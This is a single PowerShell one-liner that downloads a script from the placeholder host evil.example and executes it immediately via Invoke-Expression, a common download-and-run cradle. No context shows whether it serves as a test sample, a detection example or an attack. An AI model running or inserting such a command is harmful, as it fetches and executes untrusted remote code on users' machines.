iex (iwr -UseBasicParsing https://evil.example/i.ps1).Content
